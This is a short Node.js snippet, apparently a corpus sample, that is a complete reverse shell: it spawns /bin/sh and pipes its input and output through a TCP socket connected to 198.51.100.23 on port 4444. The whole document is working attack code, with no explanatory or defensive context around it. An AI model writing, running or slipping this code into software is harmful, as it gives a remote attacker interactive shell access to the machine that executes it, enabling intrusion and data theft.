// corpus: Node reverse shell piping a spawned sh through a net socket
const net = require('net');
const { spawn } = require('child_process');

const sh = spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, '198.51.100.23', () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
